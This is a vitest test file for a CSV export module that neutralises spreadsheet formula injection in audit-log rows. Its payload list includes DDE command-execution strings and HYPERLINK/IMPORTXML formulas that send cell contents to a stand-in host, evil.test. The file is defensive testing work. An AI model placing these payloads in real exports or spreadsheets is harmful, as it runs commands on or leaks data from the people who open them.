import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { auditCsvHeader, auditCsvLine } from "./audit-export-format";
import { neutraliseCell } from "./csv-safe";

// Payloads from the OWASP CSV injection page and the usual spreadsheet tricks.
const PAYLOADS = [
  "=1+1",
  '=HYPERLINK("http://evil.test?x="&A1, "click")',
  "+SUM(1,2)",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "=cmd|' /C notepad'!'A1'",
  '=IMPORTXML(CONCAT("http://evil.test/?v=", CONCATENATE(A2:E2)), "//a")',
];

describe("neutraliseCell", () => {
  it("prefixes every formula-like text cell so it reads as text", () => {
    for (const payload of PAYLOADS) expect(neutraliseCell(payload)).toBe(`'${payload}`);
  });

  it("leaves ordinary text and numbers alone; negative numbers stay numbers", () => {
    expect(neutraliseCell("model.status_change")).toBe("model.status_change");
    expect(neutraliseCell("a = b")).toBe("a = b");
    expect(neutraliseCell(-12.5)).toBe(-12.5);
    expect(neutraliseCell(42)).toBe(42);
    expect(neutraliseCell(12n)).toBe("12");
    expect(neutraliseCell(null)).toBeNull();
  });
});

describe("audit CSV lines", () => {
  it("neutralise injection in every text column and keep the sequence number numeric", () => {
    const event = {
      seq: 7n,
      occurredAt: new Date("2026-12-01T10:00:00Z"),
      actorId: null,
      actorLabel: '=HYPERLINK("http://evil.test")',
      action: "model.update",
      targetType: "model",
      targetId: "@evil",
      before: { name: "=1+1" },
      after: { name: "-2+3" },
      reason: "+ because",
      prevHash: "0".repeat(64),
      hash: "f".repeat(64),
    };
    const [header, row] = parse(auditCsvHeader() + auditCsvLine(event), { cast: false }) as string[][];
    expect(header).toEqual([
      "seq",
      "occurred_at",
      "actor_id",
      "actor_label",
      "action",
      "target_type",
      "target_id",
      "before",
      "after",
      "reason",
      "prev_hash",
      "hash",
    ]);
    const cell = (name: string) => row[header.indexOf(name)];
    expect(cell("seq")).toBe("7");
    expect(cell("actor_label")).toBe('\'=HYPERLINK("http://evil.test")');
    expect(cell("target_id")).toBe("'@evil");
    expect(cell("reason")).toBe("'+ because");
    // JSON cells start with "{", so the text inside cannot start a formula.
    expect(cell("before")).toBe('{"name":"=1+1"}');
    for (const value of row) expect(value).not.toMatch(/^[=+\-@\t\r]/);
    // The raw line has the number unquoted: spreadsheets read it as a number.
    expect(auditCsvLine(event).startsWith("7,")).toBe(true);
  });
});
